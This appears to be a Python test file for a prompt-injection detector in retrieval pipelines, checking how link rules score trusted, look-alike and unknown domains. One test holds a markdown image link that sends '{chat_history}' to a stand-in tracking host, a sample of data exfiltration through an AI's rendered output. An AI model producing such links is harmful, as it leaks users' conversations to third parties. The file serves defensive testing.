"""The link signals: trusted domains pass, look-alikes and data-carrying links do not."""

from __future__ import annotations

from ragfort.injection.normalize import normalise
from ragfort.injection.rules.links import LinkRules


def _weights(rules: LinkRules, text: str) -> list[float]:
    return sorted(w for w, _, _ in rules.signals(text, normalise(text)))


def test_trusted_domains_and_their_subdomains_give_no_signal() -> None:
    rules = LinkRules(["Northbeam.example"])
    assert _weights(rules, "Track it at https://help.northbeam.example/track?id=7") == []
    assert rules.trusted("northbeam.example") and not rules.trusted("northbeam.example.evil.net")


def test_lookalike_domain_and_address_are_strong_signals() -> None:
    rules = LinkRules([".northbeam.example"])
    text = "Pay at https://n0rthbeam-pay.example.net/invoice or mail billing@northbeem.example"
    signals = rules.signals(text, normalise(text))
    assert max(w for w, _, _ in signals) == 0.7
    assert any(text[s:e] == "billing@northbeem.example" and w == 0.6 for w, s, e in signals)


def test_unknown_link_alone_is_weak_but_a_data_query_is_not() -> None:
    rules = LinkRules([])
    assert _weights(rules, "Specs are on https://specs.example.org/phone") == [0.15]
    image = "![x](https://pixel.example.com/t.gif?d={chat_history})"
    assert max(_weights(rules, image)) == 0.65


def test_private_router_address_is_not_a_public_ip_signal() -> None:
    rules = LinkRules([])
    assert _weights(rules, "The hub page is http://10.0.0.1/setup on your network") == [0.15]
    assert _weights(rules, "The hub page is http://8.8.4.4/setup") == [0.15, 0.4]


def test_url_host_reads_links_bare_links_and_addresses() -> None:
    from ragfort.injection.rules.links import url_host

    assert url_host("https://Help.Acme.example/returns?x=1") == "help.acme.example"
    assert url_host("acme.co.uk/returns.") == "acme.co.uk"
    assert url_host("help@acme.co.uk") == "acme.co.uk"
    assert url_host("http://user@evil.example:8080/x") == "evil.example"
